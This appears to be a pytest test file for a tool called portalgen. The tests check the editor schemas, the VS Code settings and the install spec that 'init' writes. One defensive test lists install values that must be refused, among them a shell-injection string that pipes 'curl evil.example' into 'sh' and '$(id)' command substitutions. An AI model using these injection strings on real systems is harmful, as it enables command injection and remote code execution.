"""`portalgen init`: the editor set-up it writes (schemas, VS Code settings) and `--install SPEC`."""

from __future__ import annotations

import datetime as dt
import fnmatch
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from closing_loop_project import run_cli

from portalgen import __version__
from portalgen.commands.init import init_project
from portalgen.content import editor_schema
from portalgen.pipeline.building import check

TODAY = dt.date(2026, 6, 1)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("init") / "p"
    init_project(root, today=TODAY)
    return root


def _settings(root: Path) -> dict[str, list[str]]:
    settings = json.loads((root / ".vscode/settings.json").read_text("utf-8"))
    schemas: dict[str, list[str]] = settings["yaml.schemas"]
    return schemas


def test_init_writes_the_schemas_of_the_installed_portalgen(project: Path) -> None:
    written = {p.name: p.read_text("utf-8") for p in (project / ".portalgen/schema").iterdir()}
    assert written == editor_schema.schema_texts()


def test_vscode_settings_map_every_yaml_record_to_its_schema(project: Path) -> None:
    schemas = _settings(project)
    for schema_path in schemas:
        assert schema_path.startswith("./") and (project / schema_path).is_file(), schema_path
    extensions = json.loads((project / ".vscode/extensions.json").read_text("utf-8"))
    assert extensions == {"recommendations": ["redhat.vscode-yaml"]}

    def schema_of(rel: str) -> str | None:
        found = [s for s, globs in schemas.items() if any(fnmatch.fnmatch(rel, g) for g in globs)]
        assert len(found) <= 1, (rel, found)
        return found[0] if found else None

    assert schema_of("content/portal.yaml") == "./.portalgen/schema/portal.schema.json"
    assert schema_of("content/customers/example-customer.yaml") == "./.portalgen/schema/customer.schema.json"
    assert schema_of("content/customers/2026/globex.yml") == "./.portalgen/schema/customer.schema.json"
    # Markdown records: the YAML extension does not read front matter, so no mapping pretends it does.
    assert schema_of("content/feedback/export-reports-to-csv.md") is None


def _as_editors_read(value: Any) -> Any:
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, dict):
        return {k: _as_editors_read(v) for k, v in value.items()}
    return [_as_editors_read(v) for v in value] if isinstance(value, list) else value


def test_the_files_init_writes_validate_against_their_schemas(project: Path) -> None:
    for schema_path, globs in _settings(project).items():
        schema = json.loads((project / schema_path).read_text("utf-8"))
        files = [p for p in sorted((project / "content").rglob("*"))
                 if any(fnmatch.fnmatch(p.relative_to(project).as_posix(), g) for g in globs)]
        assert files, schema_path
        for path in files:
            data = _as_editors_read(yaml.safe_load(path.read_text("utf-8")))
            assert list(jsonschema.Draft7Validator(schema).iter_errors(data)) == [], path


def _runs(root: Path) -> list[str]:
    workflow = yaml.safe_load((root / ".github/workflows/portal.yml").read_text("utf-8"))
    return [s["run"] for job in workflow["jobs"].values() for s in job["steps"] if "pip" in s.get("run", "")]


def test_default_install_is_this_version(project: Path) -> None:
    assert _runs(project) == [f'pip install "portalgen=={__version__}"'] * 2
    assert f'pip install "portalgen=={__version__}"' in (project / "README.md").read_text("utf-8")


@pytest.mark.parametrize("spec", [
    "git+https://github.com/acme/portalgen@v0.2.0#egg=portalgen",
    "portalgen @ git+https://git.acme.example/tools/portalgen.git@main",
    "./wheels/portalgen-0.2.0-py3-none-any.whl",
    "portalgen==0.2.0",
    "portalgen[extra]>=0.2,<0.3 ; python_version >= '3.11'".replace("'", ""),  # a marker, no quotes
    "portalgen # pinned: by the platform team",  # ` #` and `: ` would break a plain YAML scalar
])
def test_install_spec_goes_into_the_workflow_and_readme(tmp_path: Path, spec: str) -> None:
    init_project(tmp_path, today=TODAY, install=spec)
    assert _runs(tmp_path) == [f'pip install "{spec}"'] * 2
    readme = (tmp_path / "README.md").read_text("utf-8")
    assert f'pip install "{spec}"' in readme and f"installs `{spec}`" in readme
    records, problems = check(tmp_path)
    assert not problems.errors and records.feedback


@pytest.mark.parametrize(("spec", "says"), [
    ('portalgen"; curl evil.example | sh; echo "', "cannot hold safely"),
    ("portalgen$(id)", "cannot hold safely"),
    ("portalgen`id`", "cannot hold safely"),
    ("portalgen'", "cannot hold safely"),
    ("portalgen\nrun: evil", "one line"),
    ("--index-url https://mirror.example/simple portalgen", "PIP_INDEX_URL"),
    ("   ", "is empty"),
])
def test_unsafe_install_spec_is_refused_and_nothing_is_written(tmp_path: Path, spec: str, says: str) -> None:
    result = run_cli("init", tmp_path / "p", "--install", spec)
    assert result.returncode == 2, result.stderr
    assert says in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "p").exists()


def test_install_on_the_command_line(tmp_path: Path) -> None:
    spec = "git+https://github.com/acme/portalgen@v0.2.0"
    result = run_cli("init", tmp_path / "p", "--install", spec)
    assert result.returncode == 0, result.stderr
    assert _runs(tmp_path / "p") == [f'pip install "{spec}"'] * 2
